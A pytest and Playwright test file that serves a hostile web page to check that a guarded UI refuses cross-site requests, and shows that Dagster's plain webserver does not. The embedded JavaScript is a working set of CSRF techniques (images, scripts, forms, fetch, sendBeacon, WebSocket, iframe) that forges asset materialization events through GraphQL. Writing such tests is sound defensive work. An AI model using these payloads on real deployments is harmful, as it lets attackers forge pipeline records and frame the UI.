"""A page of another site, open in the same browser: it can do nothing to the UI, and to Dagster's own it can do all."""

import re
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

pytestmark = pytest.mark.slow

ATTACKS = """<!doctype html><title>at work</title><meta charset="utf-8"><body><script>
const ui = location.hash.slice(1);
const forging = name => `mutation { reportRunlessAssetEvents(eventParams: {eventType: ASSET_MATERIALIZATION,
    assetKey: {path: ["${name}"]}}) { __typename } }`;
const query = name => ui + "/graphql?query=" + encodeURIComponent(forging(name));
const send = (url, options) => fetch(url, {mode: "no-cors", ...options}).catch(() => null);
const typed = (type, body) => ({method: "POST", headers: {"Content-Type": type}, body});
const json = name => JSON.stringify({query: forging(name)});

function element(tag, attributes) {
    return new Promise(done => {
        const made = Object.assign(document.createElement(tag), attributes);
        made.onload = made.onerror = done;
        document.body.append(made);
    });
}
function form(name, attributes) {
    const target = Object.assign(document.createElement("iframe"), {name});
    const made = Object.assign(document.createElement("form"), {target: name, ...attributes});
    const answered = new Promise(done => target.onload = done);
    document.body.append(target, made);
    made.submit();
    return Promise.race([answered, later(5000)]);
}
const later = ms => new Promise(done => setTimeout(done, ms));
function websocket() {
    return new Promise(done => {
        const socket = new WebSocket(ui.replace("http", "ws") + "/graphql", "graphql-ws");
        socket.onopen = () => socket.send(JSON.stringify({type: "connection_init"}));
        socket.onmessage = () => done("open");
        socket.onclose = () => done("refused");
    });
}
const attacks = {
    image: () => element("img", {src: query("by_image")}),
    script: () => element("script", {src: query("by_script")}),
    frame_get: () => form("frame_get", {method: "get", action: query("by_form_get")}),
    form: () => form("form", {method: "post", action: query("by_form")}),
    form_text: () => form("form_text", {method: "post", enctype: "text/plain", action: query("by_text_form")}),
    fetch_get: () => send(query("by_get"), {}),
    fetch_text: () => send(query("by_text"), typed("text/plain", "x")),
    fetch_json_in_text: () => send(ui + "/graphql", typed("text/plain; application/json", json("by_json_in_text"))),
    fetch_json: () => send(ui + "/graphql", {mode: "cors", ...typed("application/json", json("by_json"))}),
    beacon: async () => navigator.sendBeacon(query("by_beacon"), "x"),
    report: () => send(ui + "/report_asset_materialization/by_report", {method: "POST"}),
    websocket: async () => { window.websocket = await websocket(); },
    frame: () => element("iframe", {id: "framed", src: ui + "/"}),
};
Promise.all(Object.values(attacks).map(attack => attack())).then(() => later(2000)).then(() => document.title = "done");
</script>"""
ALL = {
    *("by_image", "by_script", "by_form", "by_text_form", "by_get", "by_text", "by_json_in_text", "by_beacon"),
    "by_report",
}
"""What it forges where nothing stops it: JSON needs the permission of the UI, and a GET for a page executes nothing."""
ASSETS = "{ assetsOrError { ... on AssetConnection { nodes { key { path } } } } }"


class ForeignPage(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(ATTACKS.encode())

    def log_message(self, *_arguments: object) -> None: ...


@pytest.fixture(scope="module")
def foreign_port() -> Iterator[int]:
    """Where another server on this machine shows its page."""
    with ThreadingHTTPServer(("127.0.0.1", 0), ForeignPage) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port
        server.shutdown()


@pytest.fixture(scope="module")
def browser_of_victim(chromium: Browser) -> Iterator[BrowserContext]:
    context = chromium.new_context()
    yield context
    context.close()


@pytest.fixture
def attacked(browser_of_victim: BrowserContext, foreign_port: int) -> Iterator[Callable[[str, str], Page]]:
    """Open the foreign page, as served by a host of this name, against the UI at an address; it has done its worst."""
    pages = []

    def open_page(host: str, address: str) -> Page:
        page = browser_of_victim.new_page()
        pages.append(page)
        page.goto(f"http://{host}:{foreign_port}/#{address}")
        page.wait_for_function("document.title === 'done'", timeout=60_000)
        return page

    yield open_page
    for page in pages:
        page.close()


def forged(ui) -> set[str]:
    """The assets that exist by nothing but a forged materialization."""
    paths = [node["key"]["path"] for node in ui.ask(ASSETS)["assetsOrError"]["nodes"]]
    return {path[0] for path in paths if path[0].startswith("by_")}


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1"])
def test_it_forges_nothing_hears_nothing_and_shows_nothing_of_the_ui(ui, attacked, host):
    page = attacked(host, ui.url)
    assert forged(ui) == set()
    assert page.evaluate("window.websocket") == "refused"
    frame = page.query_selector("#framed").content_frame()
    assert frame.query_selector("nav, #root") is None


def test_nor_does_it_where_the_ui_is_opened_by_the_other_name_of_this_machine(ui, attacked):
    attacked("127.0.0.1", ui.url.replace("127.0.0.1", "localhost"))
    assert forged(ui) == set()


def test_whoever_runs_the_ui_reads_what_was_refused(ui):
    said = ui.log.read_text()
    assert re.search(
        r"^POST '/report_asset_materialization/by_report': The request comes from a page of", said, re.MULTILINE
    )
    assert re.search(
        r"^WebSocket '/graphql': The request comes from a page of 'http://localhost:\d+'", said, re.MULTILINE
    )


def test_a_link_on_it_leads_to_the_ui(ui, browser_of_victim, foreign_port):
    page = browser_of_victim.new_page()
    page.goto(f"http://localhost:{foreign_port}/#http://127.0.0.1:9")
    page.evaluate("address => { location.href = address }", f"{ui.url}/runs")
    page.wait_for_url(f"{ui.url}/runs")
    page.get_by_role("navigation").first.wait_for(timeout=60_000)
    page.close()


def test_dagsters_own_webserver_lets_it_do_all_that(further_ui, attacked):
    plain = further_ui("dagster_webserver", "-w", "workspace.yaml", "-h", "127.0.0.1")
    page = attacked("localhost", plain.url)
    assert forged(plain) == ALL
    assert page.evaluate("window.websocket") == "open"
    assert page.query_selector("#framed").content_frame().query_selector("#root") is not None
